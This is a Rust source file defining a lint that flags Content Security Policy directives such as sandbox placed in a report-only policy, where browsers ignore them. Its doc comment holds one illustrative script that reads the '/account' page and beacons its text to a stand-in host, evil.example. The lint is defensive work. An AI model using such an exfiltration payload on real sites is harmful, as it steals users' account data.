use crate::csp::{Clause, Disposition};
use crate::diagnostic::Diagnostic;
use crate::lint::report::{Report, lint};
use crate::policy::SecurityPolicy;

lint! {
    /// # What it does
    ///
    /// Looks for directives that browsers ignore in a report-only policy: `sandbox`, `upgrade_insecure_requests` and
    /// `treat_as_public_address`.
    ///
    /// # Why it matters
    ///
    /// These directives change what a page does instead of forbidding something, so there is nothing to report. They do
    /// not take effect, although the policy seems to say so.
    ///
    /// # Attack
    ///
    /// The site relies on the sandbox for user-uploaded pages. An uploaded page is not sandboxed, and runs in the
    /// site's origin:
    ///
    /// ```html
    /// <script>fetch("/account").then(page => page.text()).then(text => navigator.sendBeacon("https://evil.example/", text))</script>
    /// ```
    ///
    /// # Example
    ///
    /// ```text
    /// content_security_policy: { default_src: self },
    /// content_security_policy_report_only: { default_src: self, sandbox, report_uri: "/csp" },
    /// ```
    ///
    /// # Fix
    ///
    /// Move the directive into the enforced policy.
    ///
    /// ```text
    /// content_security_policy: { default_src: self, sandbox }
    /// ```
    ///
    /// # Allow
    ///
    /// ```text
    /// #[allow(csp_wrong_delivery, reason = "both policies are generated from one list")]
    /// sandbox,
    /// ```
    ///
    /// Harmless where the enforced policy has the directive too.
    ///
    /// # References
    ///
    /// - [CSP3, section 6.3.2, sandbox](https://w3c.github.io/webappsec-csp/#directive-sandbox)
    /// - [Upgrade Insecure Requests, section 3](https://w3c.github.io/webappsec-upgrade-insecure-requests/#delivery)
    Deny "a directive that browsers ignore in a report-only policy",
    cwe [693], asvs ["3.2.1"],
    check
}

fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
    for Clause { directive, .. } in policy.csps_of(Disposition::Report).into_iter().flat_map(|csp| &csp.clauses) {
        if directive.node.is_ignored_in_report_only() {
            let key = directive.node.key();
            report.push(
                Diagnostic::finding(directive.span, format!("browsers ignore `{key}` in a report-only policy"))
                    .help(format!("move `{key}` into `content_security_policy`"))
                    .note("it changes what the page does, and a report-only policy changes nothing"),
            );
        }
    }
}
